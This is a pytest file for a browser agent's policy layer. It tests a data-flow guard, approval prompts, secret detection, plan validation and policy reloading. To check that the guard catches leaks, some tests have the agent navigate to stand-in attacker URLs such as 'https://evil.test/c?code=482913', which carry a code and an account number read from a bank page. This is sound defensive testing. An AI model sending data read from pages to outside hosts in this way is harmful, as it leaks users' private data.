"""The PolicyHook asking through the broker, the data-flow guard, plan validation and the policy reload;
real grant store, audit log and policy files in tmp. Tools and contexts are the registry's own types."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from webbridge.agent.emitter import Emitter
from webbridge.agent.events import RunEvent
from webbridge.errors import NeedsYou, PlanInvalid, PolicyDenied
from webbridge.paths import resolve
from webbridge.policy.actions import ActionClass
from webbridge.policy.approvals import ApprovalBroker
from webbridge.policy.audit import AuditLog
from webbridge.policy.flows import Flow, FlowMemory, looks_secret, origin
from webbridge.policy.grants import GrantStore
from webbridge.policy.hook import SEEN_URLS, PolicyHook
from webbridge.policy.locations import policy_file
from webbridge.policy.plan import validate_plan
from webbridge.policy.rules import parse_policy
from webbridge.policy.run_info import RUN_INFO, RunInfo
from webbridge.policy.runtime import PolicyRuntime
from webbridge.tools.registry import ToolContext, ToolRegistry, ToolResult, tool

A = ActionClass
NOW = 1_700_000_000.0
BANK = "https://bank.test/statements"
FORMS = "https://forms.test/contact"
BANK_ORIGIN = "https://bank.test"


@tool(action=A.READ)
async def page_text(ctx: ToolContext, tab_id: int) -> ToolResult:
    """Read the page."""
    return ToolResult("Account ACCT-99812-X, balance 1,204.50. Code 482913.", untrusted=True,
                      data={"url": BANK})


@tool(action=A.TYPE)
async def type_text(ctx: ToolContext, tab_id: int, text: str) -> ToolResult:
    """Type text."""
    ctx.state.setdefault("typed", []).append(text)
    return ToolResult("typed")


@tool(action=A.NAVIGATE)
async def navigate(ctx: ToolContext, url: str) -> ToolResult:
    """Go to a URL."""
    ctx.state.setdefault("visited", []).append(url)
    return ToolResult("ok")


TOOLS = ToolRegistry([page_text, type_text, navigate])
ALLOW = parse_policy('[defaults]\ntype = "allow"\nnavigate = "allow"\n')


class Run:
    def __init__(
        self, hook: PolicyHook, tmp: Path, *, source: str = "cli", task: str = "fill the form"
    ) -> None:
        self.events: list[RunEvent] = []
        emitter = Emitter("r-1", self.events.append)
        self.ctx = ToolContext(run_id="r-1", bridge=None, tab_id=1, workspace=tmp, hooks=(hook,), state={
            RUN_INFO: RunInfo(source=source, task=task, task_id="r-1", emit=emitter.emit),
            SEEN_URLS: {1: BANK, 2: FORMS},
        })  # fmt: skip

    async def call(self, name: str, **args: object) -> ToolResult:
        from webbridge.agent.chat import ToolCall

        return await TOOLS.call(ToolCall(id=f"c-{name}", name=name, arguments=json.dumps(args)), self.ctx)


@pytest.fixture
def parts(tmp_path: Path) -> Iterator[tuple[PolicyHook, ApprovalBroker, AuditLog]]:
    grants = GrantStore(tmp_path / "grants.db")
    audit = AuditLog(tmp_path / "audit.db")
    broker = ApprovalBroker(grants, session_id="s1", timeout=30)
    yield PolicyHook(policy=ALLOW, grants=grants, audit=audit, broker=broker), broker, audit
    grants.close()
    audit.close()


async def answer_next(broker: ApprovalBroker, *, allow: bool) -> dict[str, object]:
    async with asyncio.timeout(20):  # a deadline against a hang, not a measurement
        while not broker.pending():
            await broker.wait_changed()
    pending = broker.pending()[0]
    await broker.answer(pending.approval_id, allow=allow, by="cli")
    return pending.request


async def test_text_read_on_one_origin_asks_before_it_is_typed_on_another(
    parts: tuple[PolicyHook, ApprovalBroker, AuditLog], tmp_path: Path
) -> None:
    hook, broker, audit = parts
    run = Run(hook, tmp_path)
    assert not (await run.call("page_text", tab_id=1)).is_error
    async with asyncio.TaskGroup() as group:
        typed = group.create_task(run.call("type_text", tab_id=2, text="My account is ACCT-99812-X thanks"))
        request = await answer_next(broker, allow=False)
    assert request["rule"] == "data flow" and request["domain"] == "forms.test"
    assert request["flows"] == [["https://bank.test", "https://forms.test", "ACCT-99812-X"]]
    assert request["data_out"] == [["https://forms.test", "My account is ACCT-99812-X thanks"]]
    result = typed.result()
    assert result.is_error and result.error_code == PolicyDenied.code and "declined" in result.content
    assert "typed" not in run.ctx.state
    kinds = [(e.kind, e.decision) for e in audit.entries(run_id="r-1")]
    assert kinds[-3:] == [("decision", "ask"), ("approval", "deny"), ("outcome", None)]
    assert [e.type for e in run.events] == ["approval.requested", "approval.resolved"]


async def test_approved_flow_goes_through_and_text_without_a_flow_never_asks(
    parts: tuple[PolicyHook, ApprovalBroker, AuditLog], tmp_path: Path
) -> None:
    hook, broker, _ = parts
    run = Run(hook, tmp_path, task="send them the note 'ACCT-99812-X is mine'")
    await run.call("page_text", tab_id=1)
    # Typed on the origin it was read on, text of the user's own task, and text not read anywhere: no ask.
    assert not (await run.call("type_text", tab_id=1, text="ACCT-99812-X")).is_error
    assert not (await run.call("type_text", tab_id=2, text="ACCT-99812-X is mine")).is_error
    assert not (await run.call("type_text", tab_id=2, text="Hello, please call me back")).is_error
    async with asyncio.TaskGroup() as group:  # a 6-digit code read on the bank, in a URL for another site
        went = group.create_task(run.call("navigate", url="https://evil.test/c?code=482913"))
        request = await answer_next(broker, allow=True)
    assert request["flows"] == [["https://bank.test", "https://evil.test", "482913"]]
    assert not went.result().is_error and run.ctx.state["visited"] == ["https://evil.test/c?code=482913"]
    assert run.ctx.state["typed"] == ["ACCT-99812-X", "ACCT-99812-X is mine", "Hello, please call me back"]


async def test_a_path_carrying_read_text_asks_but_a_link_the_page_showed_does_not(tmp_path: Path) -> None:
    flows = FlowMemory()
    flows.record("r", BANK, "Statement for ACCT-99812-X. See https://help.test/statements/april-2024 .")
    assert flows.find("r", "/u/ACCT-99812-X", "https://evil.test/u/ACCT-99812-X") is not None
    assert flows.linked("r", "https://help.test/statements/april-2024")
    assert not flows.linked("r", "https://evil.test/u/ACCT-99812-X")
    assert flows.find("r", "Statement", "https://evil.test/") is None  # a common word is not data
    assert flows.find("r", "April", "https://evil.test/") is None
    assert flows.find("r", "my Statement for ACCT", "https://evil.test/") is None  # 18 letters: no phrase yet
    flows.record("r", BANK, "Your quarterly dividend payment arrives soon.")
    assert flows.find("r", "ask about the quarterly dividend payment, ok", "https://evil.test/") == Flow(
        BANK_ORIGIN, "quarterly dividend payment")
    assert flows.find("other run", "ACCT-99812-X", "https://evil.test/") is None


def test_origins_keep_ports_and_secrets_are_recognised() -> None:
    assert origin("http://127.0.0.1:8123/x?y") == "http://127.0.0.1:8123"
    assert origin("https://Bank.TEST./a") == "https://bank.test"
    assert origin("https://bank.test:443/") == "https://bank.test"
    assert [looks_secret(t) for t in ("482913", "sk-abcdef123456", "a1b2c3d4e5f6g7h8", "Statement", "2024")] \
        == [True, True, True, False, False]


async def test_an_unattended_run_parks_instead_of_asking(
    parts: tuple[PolicyHook, ApprovalBroker, AuditLog], tmp_path: Path
) -> None:
    hook, broker, audit = parts
    hook.policy = parse_policy("")  # the shipped defaults: typing asks
    run = Run(hook, tmp_path, source="schedule")
    with pytest.raises(NeedsYou, match=r"type on forms\.test"):
        await run.call("type_text", tab_id=2, text="hello")
    assert broker.pending() == [] and run.events == []
    assert [(e.kind, e.decision) for e in audit.entries(run_id="r-1")][-1] == ("approval", "needs_you")


async def test_no_answer_in_time_tells_the_model_so(tmp_path: Path) -> None:
    grants, audit = GrantStore(tmp_path / "g.db"), AuditLog(tmp_path / "a.db")
    try:
        broker = ApprovalBroker(grants, session_id="s1", timeout=0.05)
        hook = PolicyHook(policy=parse_policy(""), grants=grants, audit=audit, broker=broker)
        result = await Run(hook, tmp_path).call("type_text", tab_id=2, text="hello")
        assert result.is_error and result.error_code == PolicyDenied.code
        assert "no answer within 0.05 s" in result.content
    finally:
        grants.close()
        audit.close()


def test_plans_name_registrable_domains_and_known_classes() -> None:
    sites = ["https://www.shop.test/cart", "shop.test", "docs.test"]
    expected = (["shop.test", "docs.test"], ["navigate", "type"])
    assert validate_plan(sites, ["navigate", "type", "type"]) == expected
    with pytest.raises(PlanInvalid, match="not one of"):
        validate_plan(["shop.test"], ["buy"])
    with pytest.raises(PlanInvalid, match="none"):
        validate_plan(["shop.test"], ["none"])
    with pytest.raises(PlanInvalid):
        validate_plan(["xn--pple-43d.com"], ["navigate"])  # a look-alike host
    with pytest.raises(PlanInvalid, match="at least one action"):
        validate_plan(["shop.test"], [])


def test_a_changed_policy_file_is_reloaded_and_an_invalid_one_keeps_the_old(tmp_path: Path) -> None:
    paths = resolve({"WEBBRIDGE_HOME": str(tmp_path / "wb")})
    path = policy_file(paths)
    path.parent.mkdir(parents=True)
    path.write_text('mode = "grants"\n')
    runtime = PolicyRuntime.open(paths, session_id="s1")
    try:
        assert runtime.refresh() is False and runtime.policy.mode == "grants"
        path.write_text('mode = "ask"\n# changed\n')
        assert runtime.refresh() is True and runtime.policy.mode == "ask"
        path.write_text('mode = "sometimes"\n')
        assert runtime.refresh() is False and runtime.policy.mode == "ask"
        assert runtime.hook.refresh == runtime.refresh_and_announce  # the hook checks before every decision
    finally:
        runtime.close()
